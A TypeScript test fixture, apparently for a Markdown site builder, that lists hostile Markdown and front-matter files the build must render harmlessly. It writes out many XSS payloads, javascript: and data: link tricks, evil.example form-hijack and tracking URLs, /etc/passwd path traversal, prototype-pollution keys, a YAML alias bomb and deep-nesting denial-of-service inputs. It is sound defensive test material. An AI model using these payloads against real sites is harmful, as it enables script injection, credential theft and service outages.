/** A file that attacks, and must come out as an article that does nothing. */
export interface HarmlessFile {
  readonly file: string;
  readonly content: string;
}

const attack = 'alert(document.domain)';

const htmlAttacks = [
  `<script>${attack}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${attack}</scr</script>ipt>`,
  `<img src=x onerror=${attack}>`,
  `<img src="x" ONERROR = "${attack}" alt="">`,
  `<img """><script>${attack}</script>">`,
  `<img src=https://evil.example/track.png>`,
  `<img srcset="https://evil.example/a.png 2x" alt="x">`,
  `<svg onload=${attack}><script>${attack}</script><a xlink:href="javascript:${attack}"><text>x</text></a></svg>`,
  `<svg><style><img src=x onerror=${attack}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attack}&gt;">`,
  `<math href="javascript:${attack}"><mi>x</mi></math>`,
  `<iframe srcdoc="<script>${attack}</script>"></iframe><object data="javascript:${attack}"></object><embed src="data:text/html,x">`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css"><style>body { display: none }</style>`,
  `<form action="https://evil.example/"><input name="password" autofocus onfocus=${attack}><button>Send</button></form>`,
  `<details open ontoggle=${attack}><summary>x</summary></details>`,
  `<p style="position:fixed;inset:0;background:url(https://evil.example/)">x</p>`,
  `<a href="javascript:${attack}">x</a> <a href="java\nscript:${attack}">x</a> <a href="&#x6A;avascript&colon;${attack}">x</a>`,
  `<video><source onerror=${attack}></video><audio src=x onerror=${attack}></audio>`,
  `<template><script>${attack}</script></template><noscript><p title="</noscript><img src=x onerror=${attack}>"></noscript>`,
  `<!--><img src=x onerror=${attack}>--> <!-- --!><img src=x onerror=${attack}> -->`,
  `<?php echo 1 ?> <![CDATA[<script>${attack}</script>]]> <!DOCTYPE html>`,
  `<p id="text" class="prose" name="body">x</p><p id="search-dialog">x</p><img name="getElementById" alt="x">`,
  `<xmp><p title="</xmp><img src=x onerror=${attack}>"></xmp><title></title><textarea></textarea>`,
  `</div></main></body></html><script>${attack}</script>`,
];

const linkAttacks = [
  `javascript:${attack}`, `JaVaScRiPt:${attack}`, `java&#9;script:${attack}`, `&#106;avascript:${attack}`, `\u0001javascript:${attack}`,
  `vbscript:msgbox(1)`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `file:///etc/passwd`, `blob:https://x/y`, `//evil.example/x`,
  `\\\\evil.example\\x`, `../../../../etc/passwd`, `/../../../etc/passwd`, `/%2e%2e/%2e%2e/etc`, `/__proto__`, `/mba"onclick="${attack}`, `/mba?x=<script>`,
  `#"><script>${attack}</script>`, `https://user:password@evil.example/`, `http:///x`, `https:`, `mailto:a@b?subject=<script>`,
];

/** The files that must be built. */
export const harmlessFiles: readonly HarmlessFile[] = [
  ...htmlAttacks.map((html, number) => article(`html-${number}`, `Before.\n\n${html}\n\nInside ${html.replaceAll('\n', ' ')} a line.\n\n- ${html.replaceAll('\n', ' ')}\n`)),
  article('links', linkAttacks.map((target, number) => `[label ${number}](${target}) ![picture ${number}](${target}) <${target}>\n\n[ref ${number}]\n\n[ref ${number}]: ${target}\n`).join('\n')),
  article('headings', `# <img src=x onerror=${attack}>\n\n## text\n\n## text\n\n## search-dialog\n\n## <script>${attack}</script>\n\n## [label](javascript:${attack})\n\n## ${'long '.repeat(2000)}\n\n##\n\n## __proto__\n`),
  article('many-headings', '## same\n\n'.repeat(20_000)),
  article('headings-cut', `## a${'\u{1d538}'.repeat(100)}\n\n## ${'e\u0301\u0302'.repeat(500)}\n\n## \u{e0041}\u200b\n`),
  article('labels', `[<img src=x onerror=${attack}>](/mba) [</a><script>${attack}</script>](/mba) [\`</code><script>${attack}</script>\`](/mba)\n`),
  matter('title-image', `title: <img src=x onerror=${attack}>`),
  matter('title-closed', `title: </title></h1></a><script>${attack}</script>`),
  matter('title-quoted', `title: '" onmouseover="${attack}" x="'`),
  matter('description', `title: Description\ndescription: "\\"><script>${attack}</script>&lt;script&gt;"`),
  matter('keywords', `title: Keywords\nkeywords: <script>${attack}</script>,../../../etc,__proto__,constructor,"&quot;><img src=x onerror=${attack}>,,, ,404,A/B`),
  matter('json', `title: JSON\ndescription: </script><script>${attack}</script> <!-- <script>`),
  matter('duplicate-keys', 'title: First\ntitle: Second\ndescription: Third\ndescription: Fourth'),
  matter('prototype', '__proto__: { title: Polluted, isAdmin: true }\nconstructor: { prototype: { polluted: yes } }\ntitle: Prototype'),
  matter('alias-bomb', `${aliasBomb()}\ntitle: Bomb`),
  matter('deep-yaml', `title: Deep\nextra: ${'['.repeat(5000)}`),
  matter('bidi', 'title: \u202eabc\u202c \u2066def\ndescription: \u202egnihton'),
  article('__proto__', 'A word that objects know.\n'),
  article('constructor', 'Another word that objects know.\n'),
  article('index', 'An article at /en/index/.\n'),
  article('a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p', 'An article deep in folders. [up](../../../../mba.md) [out](../../../../../../../../../../../../../../../../../../../../etc/passwd)\n'),
  article('bidi-text', 'Text that \u202esdrawkcab snur\u202c and \u2067never ends.\n'),
  article('quotes', `${'>'.repeat(10_000)} deep\n`),
  article('quotes-on-lines', Array.from({ length: 300 }, (_, depth) => `${'> '.repeat(depth)}x`).join('\n')),
  article('lists', Array.from({ length: 2000 }, (_, depth) => `${'  '.repeat(Math.min(depth, 400))}- x`).join('\n')),
  article('lists-on-a-line', `${'- '.repeat(10_000)}deep\n`),
  article('brackets', `${'['.repeat(10_000)}deep${']'.repeat(10_000)}\n\n${'[a]('.repeat(10_000)}\n\n${'!['.repeat(10_000)}\n`),
  article('emphasis', `${'*a **b _c __d '.repeat(5000)}\n\n${'*'.repeat(10_000)}deep${'*'.repeat(10_000)}\n`),
  article('ticks', Array.from({ length: 1000 }, (_, count) => '`'.repeat(count)).join(' ')),
  article('entities', `${'&#x26;amp;'.repeat(20_000)} &#0; &#x110000; &#xd800; &NotAnEntity;\n`),
  article('html-depth', `${'<div>'.repeat(10_000)}deep${'</div>'.repeat(10_000)}\n`),
  article('html-open', `${'<table><tr><td>'.repeat(2000)}deep\n`),
  article('long-line', 'word '.repeat(200_000)),
  article('no-spaces', 'x'.repeat(500_000)),
  article('many-links', Array.from({ length: 50_000 }, (_, number) => `[l](/x${number})`).join(' ')),
  article('references', `${Array.from({ length: 5000 }, (_, number) => `[r${number}]: /mba`).join('\n')}\n\n${Array.from({ length: 5000 }, (_, number) => `[r${number}]`).join(' ')}\n`),
  article('table', `|${'a|'.repeat(100)}\n|${'-|'.repeat(100)}\n${`|${'b|'.repeat(100)}\n`.repeat(1000)}`),
  article('wide-table', `|${'a|'.repeat(5000)}\n|${'-|'.repeat(5000)}\n|${'b|'.repeat(5000)}\n`),
  article('formulas', `$$\n\\def\\a{\\a\\a}\\a\n$$\n\n$$\n${'\\frac{1}{'.repeat(2000)}x\n$$\n\n$$\n\\href{javascript:${attack}}{x} \\html{<script>} \\style{x}{y} \\includegraphics{https://evil.example/x}\n$$\n\nA sum $$${'x+'.repeat(20_000)}1$$.\n`),
  article('footnotes', 'One[^a].\n\n[^a]: See[^b].\n[^b]: See[^a].\n[^c]: Never.\n\nTwo[^a][^a][^constructor][^"><script>].\n\n[^"><script>]: x\n'),
  article('templates', `{{constructor.constructor("${attack}")()}} \${${attack}} {${attack}} <%= x %> {% x %}\n\nimport x from "y";\n\nexport const z = 1;\n`),
  { file: 'en/empty.md', content: '' },
  { file: 'en/blank.md', content: ' \n\t\n \r\n' },
  { file: 'en/only-front-matter.md', content: '---\ntitle: Only\n---' },
  { file: 'en/unclosed-front-matter.md', content: '---\ntitle: Unclosed\n\nText without an end.\n' },
  { file: 'en/only-dashes.md', content: '---\n---\n---\n---\n' },
  { file: 'en/bom-and-crlf.md', content: '\ufeff---\r\ntitle: BOM\r\ndescription: Lines that end in two characters.\r\n---\r\n\r\n## Heading\r\n\r\nText.\r\n' },
  { file: 'en/old-mac.md', content: '---\rtitle: Old\r---\r\rText.\r' },
];

/** The path of the page that a file becomes. */
export function pathOf({ file }: HarmlessFile): string {
  return `${file.slice(0, -'.md'.length)}/`;
}

function article(slug: string, body: string): HarmlessFile {
  return { file: `en/${slug}.md`, content: `---\nkeywords: Risk\ntitle: Hostile ${slug.slice(0, 20)}\ndescription: What an attacker may write.\n---\n\n${body}` };
}

/** Nine anchors that each stand ten times in the next: a thousand million words from four hundred bytes. */
function aliasBomb(): string {
  const lines = Array.from({ length: 9 }, (_, level) => `a${level}: &a${level} [${Array(10).fill(level === 0 ? 'word' : `*a${level - 1}`).join(', ')}]`);
  return lines.join('\n');
}

function matter(slug: string, frontMatter: string): HarmlessFile {
  return { file: `en/${slug}.md`, content: `---\n${frontMatter}\n---\n\nText of an [article](/mba).\n` };
}
